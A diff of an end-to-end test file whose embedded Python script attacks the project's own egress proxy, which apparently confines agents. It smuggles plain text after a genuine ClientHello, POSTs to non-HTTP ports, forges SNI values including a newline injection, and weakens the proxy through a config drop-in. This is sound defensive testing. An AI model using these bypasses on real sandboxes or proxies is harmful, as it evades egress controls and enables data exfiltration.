@@ -1,41 +1,62 @@
-//! Attack review of issue 13's tunnel claim ("a CONNECT to an allowlisted name must carry TLS
-//! whose SNI equals the CONNECT host exactly; anything else is cut"), by a security tester
-//! playing the agent. One run of a script agent through the run's own proxy
-//! (`allowed.example`, ports 80 and 443); each test has its positive control in the same run.
+//! Attacks on the proxy's tunnel and plain-HTTP rules (issues 13 and 31), by a script agent
+//! playing the attacker through the run's own proxy (`allowed.example`, ports 80, 443 and
+//! 2525). Each test has its positive control: in the same run, or in a run whose proxy is
+//! weakened to the rule that was there before.
 //!
-//! - Plain HTTP, no CONNECT: a `POST http://allowed.example:443/` reached the SSH-like service
-//!   there and squid relayed its bytes as `HTTP/0.9` (`X-Transformed-From: HTTP/0.9`). Now the
-//!   answer is withheld (`http_reply_access deny`, reason `not_http`). Control: plain HTTP to
-//!   port 80 works.
-//! - The SNI helper read one line per lookup and squid does not escape a newline in
-//!   `%ssl::>sni`: SNI `allowed.example\nelsewhere.example` was spliced. Now every lookup ends
-//!   in a fixed field the split line lacks. Controls: SNI `allowed.example` is spliced, SNI
-//!   `elsewhere.example` is cut.
-//! - Known and open (the next planner's): the peek looks at the client's first flight only, so
-//!   a `CONNECT allowed.example:80` that sends a real `ClientHello` and then plain HTTP is
-//!   spliced to the plain server there (`prefix` below records what came back). Closing it
-//!   needs `ssl_bump peek` at step 2 (the server's hello), which squid 6.13 only accepts with
-//!   the bump machinery configured (measured: "could not create TLS server context ... null
-//!   ssl ctx" with `generate-host-certificates=off`).
+//! - A tunnel was judged by its first client flight only: `CONNECT allowed.example:2525`, a
+//!   genuine `ClientHello` naming `allowed.example`, then plain text reached the junk-tolerant
+//!   line service there (the testbed's `allowed.example:2525`), both ways. Now squid splices
+//!   only after the server answered TLS (`ssl_bump peek` at step 2): the service gets the
+//!   `ClientHello` and nothing after it, the agent gets nothing of the service's, and the record
+//!   says `server_not_tls`. Control: the same run with squid splicing at step 2 (its rule
+//!   before issue 31) puts the text into the service's log and its answers into the agent's
+//!   hands. The same against the plain HTTP server on `allowed.example:80`.
+//! - Plain HTTP to a port that does not speak HTTP (`POST http://allowed.example:2525/`) put
+//!   its body into the service and the summary counted it denied. Now plain HTTP goes only to
+//!   `egress.http_ports` (default 80): refused before a byte leaves (`port_not_http`, the
+//!   service's log has none of it). Control: plain HTTP to port 80 works in the same run.
+//! - The SNI helper compared byte for byte: a valid upper-case SNI was cut. Now case and one
+//!   trailing dot do not matter; another name is still cut, and so is an SNI with a newline
+//!   (the helper read one line per lookup: issue 13's attack review). Control: the exact SNI is
+//!   spliced.
+//!
+//! Whether a tunnel was spliced is told by the certificate that came back: the testbed's
+//! servers' (issuer "cyclix testbed CA", sent in clear under TLS 1.2), squid's own error answer
+//! (the run's CA, "cyclix egress proxy"), or nothing (cut).
 
 use std::sync::OnceLock;
 
 use crate::common::run::{prepared, record, start};
 use crate::common::tenant::Tenant;
-use crate::common::testbed::expect_success;
+use crate::common::testbed::{Testbed, expect_success};
 
-/// The agent: each attack with a 5 s deadline, results in `attack13.json` (committed).
-/// `spliced` = the server's first byte was a TLS record (0x16 handshake or 0x15 alert), `cut` =
-/// the proxy closed without a byte.
-const AGENT: &str = r#"import json, os, socket, struct, time
+/// The agent: each attack with a 5 s deadline, results in `attack.json` (committed). `marker`
+/// is random per run: the line service's log is searched for it.
+const AGENT: &str = r#"import json, os, socket, ssl, struct, time
 proxy = os.environ["HTTPS_PROXY"].removeprefix("http://").rstrip("/")
 PH, PP = proxy.rsplit(":", 1)[0], int(proxy.rsplit(":", 1)[1])
+marker = "EXFIL-" + os.urandom(8).hex()
+
+def genuine_hello(name):
+    # A real ClientHello, as Python's TLS stack writes it (the handshake is never finished).
+    ctx = ssl.create_default_context()
+    ctx.check_hostname = False
+    ctx.verify_mode = ssl.CERT_NONE
+    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
+    obj = ctx.wrap_bio(inc, out, server_hostname=name)
+    try:
+        obj.do_handshake()
+    except ssl.SSLWantReadError:
+        pass
+    return out.read()
 
 def hello(sni):
+    # A TLS 1.2 ClientHello naming `sni` byte for byte (any case, a dot, a newline).
     names = b"\x00" + struct.pack(">H", len(sni)) + sni
     sn = struct.pack(">H", len(names)) + names
     ext = b"\x00\x00" + struct.pack(">H", len(sn)) + sn
     ext += b"\x00\x0a\x00\x06\x00\x04\x00\x1d\x00\x17" + b"\x00\x0d\x00\x08\x00\x06\x04\x03\x08\x04\x04\x01"
+    ext += b"\xff\x01\x00\x01\x00"
     cs = b"\xc0\x2f\xc0\x2b\xc0\x30\x00\x9c\x00\x2f"
     body = b"\x03\x03" + os.urandom(32) + b"\x00" + struct.pack(">H", len(cs)) + cs + b"\x01\x00" + struct.pack(">H", len(ext)) + ext
     hs = b"\x01" + struct.pack(">I", len(body))[1:] + body
@@ -44,7 +65,7 @@ def hello(sni):
 def drain(s):
     out = b""
     try:
-        while len(out) < 4096:
+        while len(out) < 8192:
             b = s.recv(4096)
             if not b:
                 break
@@ -64,7 +85,7 @@ def tunnel(target, first, then=b""):
         head += b
     s.sendall(first)
     if then:
-        time.sleep(0.7)  # the ClientHello alone in its segment: squid peeks at it, then splices
+        time.sleep(0.7)  # the ClientHello alone in its segment: squid peeks at it first
         try:
             s.sendall(then)
         except OSError:
@@ -73,8 +94,14 @@ def tunnel(target, first, then=b""):
     s.close()
     return got
 
-def tls(got):
-    return "spliced" if got[:1] in (b"\x16", b"\x15") else ("cut" if not got else "other")
+def who(got):
+    if not got:
+        return "cut"
+    if b"cyclix testbed CA" in got:
+        return "spliced"
+    if b"cyclix egress proxy" in got:
+        return "proxy"
+    return "other"
 
 def plain(req):
     s = socket.create_connection((PH, PP), timeout=5)
@@ -84,56 +111,123 @@ def plain(req):
     return got.decode("latin-1")
 
 A = b"allowed.example"
-out = {}
-out["prefix"] = tunnel("allowed.example:80", hello(A), b"\r\nGET / HTTP/1.0\r\n\r\n").decode("latin-1")[:200]
-out["prefix_ctl"] = tunnel("allowed.example:80", b"GET / HTTP/1.0\r\n\r\n").decode("latin-1")[:200]
-out["http09"] = plain(b"POST http://allowed.example:443/ HTTP/1.1\r\nHost: allowed.example:443\r\nContent-Length: 18\r\nConnection: close\r\n\r\nSSH-2.0-smuggled\r\n")[:600]
+out = {"marker": marker}
+line = tunnel("allowed.example:2525", genuine_hello("allowed.example"), f"PING\r\n{marker}-line\r\n".encode())
+out["line"] = line.decode("latin-1")[:300]
+out["line_first"] = line[:1].hex()
+http = tunnel("allowed.example:80", genuine_hello("allowed.example"), f"GET /{marker}-http HTTP/1.0\r\nHost: allowed.example\r\n\r\n".encode())
+out["http"] = http.decode("latin-1")[:300]
+out["http_first"] = http[:1].hex()
+body = f"PING\r\n{marker}-post\r\n"
+out["post"] = plain(f"POST http://allowed.example:2525/ HTTP/1.1\r\nHost: allowed.example:2525\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n{body}".encode())[:600]
 out["http_ctl"] = plain(b"GET http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\nConnection: close\r\n\r\n")[:600]
-out["sni_nl"] = tls(tunnel("allowed.example:443", hello(A + b"\nelsewhere.example")))
-out["sni_eq"] = tls(tunnel("allowed.example:443", hello(A)))
-out["sni_other"] = tls(tunnel("allowed.example:443", hello(b"elsewhere.example")))
-json.dump(out, open("attack13.json", "w"))
+out["sni_eq"] = who(tunnel("allowed.example:443", hello(A)))
+out["sni_upper"] = who(tunnel("allowed.example:443", hello(b"ALLOWED.Example")))
+out["sni_dot"] = who(tunnel("allowed.example:443", hello(A + b".")))
+out["sni_other"] = who(tunnel("allowed.example:443", hello(b"elsewhere.example")))
+out["sni_nl"] = who(tunnel("allowed.example:443", hello(A + b"\nelsewhere.example")))
+json.dump(out, open("attack.json", "w"))
 "#;
 
-/// The agent's results, from one run shared by the tests below.
-fn results() -> &'static serde_json::Value {
-    &run().0
+/// The egress of both runs: the line service's port besides 80 and 443; plain HTTP to 80
+/// only (the default, written out).
+const EGRESS: &str =
+    "egress:\n  allow: [allowed.example]\n  ports: [80, 443, 2525]\n  http_ports: [80]";
+
+/// One run's outcome: the agent's results, the record, the proxy's journal (every priority:
+/// squid's cache log too) and the line service's log lines that name the run's marker.
+struct Run {
+    results: serde_json::Value,
+    record: serde_json::Value,
+    proxy: String,
+    line_log: String,
 }
 
-/// The agent's results and the proxy's journal lines of that run (every priority: squid's
-/// cache log too), from one run shared by the tests below.
-fn run() -> &'static (serde_json::Value, String) {
-    static R: OnceLock<(serde_json::Value, String)> = OnceLock::new();
+fn read_run(tb: &Testbed, name: &str, rec: serde_json::Value) -> Run {
+    let branch = rec["branch"]
+        .as_str()
+        .unwrap_or_else(|| panic!("the agent ran: {rec:#}"));
+    let json = expect_success(
+        &tb.user_sh(&format!("cd ~/src/{name} && git show {branch}:attack.json")),
+        "read the agent's results",
+    );
+    let results: serde_json::Value = serde_json::from_str(&json).expect("attack.json");
+    let proxy = expect_success(
+        &tb.user_sh(&format!(
+            "journalctl --user -t cyclix-{}-proxy -o cat --no-pager",
+            rec["run_id"].as_str().expect("run id")
+        )),
+        "the proxy's journal",
+    );
+    let marker = results["marker"].as_str().expect("marker").to_owned();
+    let line_log = expect_success(
+        &tb.root_sh(&format!(
+            "grep -F '{marker}' /run/testbed-line/received.jsonl || true"
+        )),
+        "the line service's log",
+    );
+    Run {
+        results,
+        record: rec,
+        proxy,
+        line_log,
+    }
+}
+
+/// The run with the proxy as cyclix renders it, shared by the tests below.
+fn guarded() -> &'static Run {
+    static R: OnceLock<Run> = OnceLock::new();
     R.get_or_init(|| {
         let _shared = crate::common::testbed::shared();
         let tb = prepared();
         let name = "e2e-tunnel-attacks";
         Tenant::new(name)
             .agent_cmd(
-                r#"[sh, -c, "python3 attack13.py && git add attack13.json && git commit -qm attack13"]"#,
+                r#"[sh, -c, "python3 attack.py && git add attack.json && git commit -qm attack"]"#,
             )
-            .egress_allow(&["allowed.example"], &[80, 443])
-            .file("attack13.py", AGENT)
+            .extra_yaml(EGRESS)
+            .file("attack.py", AGENT)
             .write(tb);
         let out = start(tb, name);
         let rec = record(tb, name);
-        let branch = rec["branch"]
-            .as_str()
-            .unwrap_or_else(|| panic!("the agent ran: {rec:#}\n{out:?}"));
-        let json = expect_success(
-            &tb.user_sh(&format!(
-                "cd ~/src/{name} && git show {branch}:attack13.json"
-            )),
-            "read the agent's results",
+        assert!(rec["branch"].is_string(), "{rec:#}\n{out:?}");
+        read_run(tb, name, rec)
+    })
+}
+
+/// The control: the same agent, the proxy splicing after the client's hello alone (the rule
+/// before issue 31), as an attacker with the Quadlet directory could make it with a drop-in.
+fn weakened() -> &'static Run {
+    static R: OnceLock<Run> = OnceLock::new();
+    R.get_or_init(|| {
+        let _shared = crate::common::testbed::shared();
+        let tb = prepared();
+        let name = "e2e-tunnel-weak";
+        let id = "e2e-tunnel-weak-1";
+        Tenant::new(name)
+            .agent_cmd(
+                r#"[sh, -c, "python3 attack.py && git add attack.json && git commit -qm attack"]"#,
+            )
+            .extra_yaml(EGRESS)
+            .file("attack.py", AGENT)
+            .write(tb);
+        let weaken = "[Container]\nEntrypoint=/bin/sh\nExec=-c \"sed -e 's/^ssl_bump peek step2 sni_ok$/ssl_bump splice sni_ok/' -e '/^ssl_bump splice step3$/d' /etc/cyclix/squid.conf > /tmp/weak.conf && grep -q '^ssl_bump splice sni_ok$' /tmp/weak.conf && exec /usr/local/libexec/cyclix-proxy-start /tmp/weak.conf\"";
+        let unit = format!("cyclix-{id}-proxy.container");
+        let script = format!(
+            "set -e\nQ=~/.config/containers/systemd; mkdir -p $Q/{unit}.d\ncat > $Q/{unit}.d/weaken.conf <<'EOF'\n{weaken}\nEOF\n\
+             set +e\n{c} run {name} --run-id {id}\necho \"rc=$?\" >&2\nrm -rf $Q/{unit}.d\n",
+            c = tb.cyclix_bin()
         );
-        let proxy = expect_success(
+        let out = tb.user_sh(&script);
+        let text = expect_success(
             &tb.user_sh(&format!(
-                "journalctl --user -t cyclix-{}-proxy -o cat --no-pager",
-                rec["run_id"].as_str().expect("run id")
+                "cat ~/.local/state/cyclix/runs/{name}/{id}.json 2>/dev/null || cat ~/.local/state/cyclix/runs/{name}/latest.json"
             )),
-            "the proxy's journal",
+            "read the weakened run's record",
         );
-        (serde_json::from_str(&json).expect("attack13.json"), proxy)
+        let rec: serde_json::Value = serde_json::from_str(&text).expect("record");
+        assert!(rec["branch"].is_string(), "{rec:#}\n{out:?}");
+        read_run(tb, name, rec)
     })
 }
 
@@ -141,29 +235,123 @@ fn s<'a>(r: &'a serde_json::Value, k: &str) -> &'a str {
     r[k].as_str().unwrap_or_default()
 }
 
-/// Plain HTTP to a non-HTTP service on an allowed port
-/// gets that service's bytes back as HTTP/0.9.
+/// The record's decisions of the agent for `port` with `method`.
+fn decisions<'a>(
+    rec: &'a serde_json::Value,
+    method: &str,
+    port: &str,
+) -> Vec<&'a serde_json::Value> {
+    rec["egress_decisions"]
+        .as_array()
+        .map(|a| {
+            a.iter()
+                .filter(|d| d["by"] == "agent" && d["method"] == method && d["port"] == port)
+                .collect()
+        })
+        .unwrap_or_default()
+}
+
 #[test]
-fn plain_http_to_a_non_http_service_gets_none_of_its_bytes() {
-    let r = results();
+fn a_genuine_client_hello_then_plain_text_reaches_no_line_service_and_no_http_server() {
+    let control = weakened();
+    // Control: splicing after the client's hello alone, the text reached the line service and
+    // its answers came back; the plain HTTP server answered too.
     assert!(
-        s(r, "http_ctl").contains("hello-from-allowed.example"),
-        "control: plain HTTP to allowed.example:80 works: {r:#}"
+        control.line_log.contains("-line"),
+        "control: the line service got the text after the hello: {}\n{:#}",
+        control.line_log,
+        control.results
     );
     assert!(
-        !s(r, "http09").contains("SSH-2.0-testbed-outside"),
-        "the SSH-like service on allowed.example:443 answered a plain-HTTP request \
-         (squid relayed it as HTTP/0.9), no CONNECT needed: {r:#}"
+        s(&control.results, "line").contains("+PONG"),
+        "control: {:#}",
+        control.results
+    );
+    assert!(
+        s(&control.results, "http").contains("HTTP/1."),
+        "control: the plain HTTP server answered: {:#}",
+        control.results
+    );
+    let r = guarded();
+    assert!(
+        !r.line_log.contains("-line"),
+        "the line service got the text after the ClientHello: {}",
+        r.line_log
+    );
+    for (k, first) in [("line", "line_first"), ("http", "http_first")] {
+        let got = s(&r.results, k);
+        assert!(
+            !got.contains("+PONG") && !got.contains("-ERR") && !got.contains("HTTP/1."),
+            "{k}: the service's answer came back: {:#}",
+            r.results
+        );
+        // Squid ends the client's side with its own TLS error (under the run's CA), or
+        // closes: a TLS record (handshake or alert) or nothing.
+        assert!(
+            ["16", "15", ""].contains(&s(&r.results, first)),
+            "{k}: {:#}",
+            r.results
+        );
+    }
+    // The record names it, and the summary counts the cut tunnels.
+    for port in ["2525", "80"] {
+        let d = decisions(&r.record, "CONNECT", port);
+        assert!(
+            d.iter().any(|d| d["reason"] == "server_not_tls"),
+            "CONNECT :{port} recorded as {d:#?}"
+        );
+    }
+    assert!(r.proxy.contains("ERR_SECURE_CONNECT_FAIL"), "{}", r.proxy);
+    // `cyclix status` counts them as cut, and the refused POST as denied: 2 cut tunnels, the
+    // other SNI and the newline SNI cut too, and the POST refused (never "sent").
+    let tb = Testbed::get();
+    let text = expect_success(
+        &tb.user(&[&tb.cyclix_bin(), "status", "e2e-tunnel-attacks"]),
+        "cyclix status",
+    );
+    assert!(
+        text.contains(
+            "5 denied (4 tunnels cut: not TLS, TLS naming another host, or a server that did \
+             not answer TLS); the probes"
+        ),
+        "{text}"
+    );
+    assert!(!text.contains("answer withheld"), "{text}");
+}
+
+#[test]
+fn plain_http_to_a_port_that_is_not_an_http_port_is_refused_before_a_byte_leaves() {
+    let r = guarded();
+    assert!(
+        s(&r.results, "http_ctl").contains("hello-from-allowed.example"),
+        "control: plain HTTP to allowed.example:80 works: {:#}",
+        r.results
+    );
+    assert!(
+        s(&r.results, "post").starts_with("HTTP/1.1 403")
+            && s(&r.results, "post").contains("X-Squid-Error"),
+        "the proxy's own 403: {:#}",
+        r.results
+    );
+    assert!(
+        !r.line_log.contains("-post"),
+        "the POST's body reached the line service: {}",
+        r.line_log
+    );
+    let d = decisions(&r.record, "POST", "2525");
+    assert!(
+        !d.is_empty() && d.iter().all(|d| d["reason"] == "port_not_http"),
+        "{d:#?}"
     );
 }
 
-/// An SNI that is the CONNECT host, a newline and more
-/// is spliced.
 #[test]
-fn an_sni_with_a_newline_is_cut() {
-    let r = results();
+fn sni_case_and_a_trailing_dot_are_the_same_name_another_name_and_a_newline_are_cut() {
+    let r = &guarded().results;
     assert_eq!(s(r, "sni_eq"), "spliced", "control: {r:#}");
-    assert_eq!(s(r, "sni_other"), "cut", "control: {r:#}");
+    assert_eq!(s(r, "sni_upper"), "spliced", "upper-case SNI: {r:#}");
+    assert_eq!(s(r, "sni_dot"), "spliced", "trailing-dot SNI: {r:#}");
+    assert_eq!(s(r, "sni_other"), "cut", "another SNI: {r:#}");
     assert_eq!(
         s(r, "sni_nl"),
         "cut",
@@ -173,9 +361,9 @@ fn an_sni_with_a_newline_is_cut() {
     // Cut before the helper sees it (`sni_bad`): a split lookup line made the helper answer
     // twice, its answers then out of step with squid's questions (attack review 16 saw
     // `helperHandleRead: unexpected read from external_acl_type` 12 times in one run).
-    let proxy = &run().1;
+    let proxy = &guarded().proxy;
     assert!(
-        proxy.contains("cyclix-end") || proxy.contains("\"sni\":"),
+        proxy.contains("\"sni\":"),
         "control: the proxy's lines were read: {proxy:.400}"
     );
     assert!(
